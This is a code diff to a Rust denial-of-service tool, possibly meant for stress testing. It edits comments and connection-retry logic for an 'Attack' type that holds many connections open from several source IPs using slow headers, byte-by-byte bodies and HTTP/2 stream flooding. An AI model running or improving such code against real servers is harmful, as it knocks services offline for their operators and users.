@@ -41,7 +41,7 @@ pub enum Behavior {
     Idle,
     /// Sends headers in single bytes.
     Slow,
-    /// Sends requests whose bodies never end, in single bytes.
+    /// Sends requests whose bodies arrive byte by byte.
     Busy,
     /// Sends two requests at each tick, up to the limit of streams, and does not read the responses. HTTP/2 windows have 0, 1
     /// or 5,000 bytes.
@@ -67,7 +67,7 @@ pub struct Attack {
     pub target: SocketAddr,
     pub sources: Vec<IpAddr>,
     pub connections: usize,
-    /// The connections alternate between these.
+    /// What the connections do, in turn.
     pub behaviors: Vec<Behavior>,
     pub http2: bool,
     /// How often each connection sends more, or is opened again if the server has closed it.
@@ -117,9 +117,8 @@ impl Attack {
         let behavior = self.behaviors[position / self.sources.len() % self.behaviors.len()];
         loop {
             tick.tick().await;
-            let socket = connect(source, self.target).await;
+            let Ok(mut socket) = connect(source, self.target).await else { continue };
             opened.fetch_add(1, Relaxed);
-            let Ok(mut socket) = socket else { continue };
             let mut step = 0;
             while socket.write_all(&behavior.bytes(self.http2, position, step)).await.is_ok() {
                 step += 1;
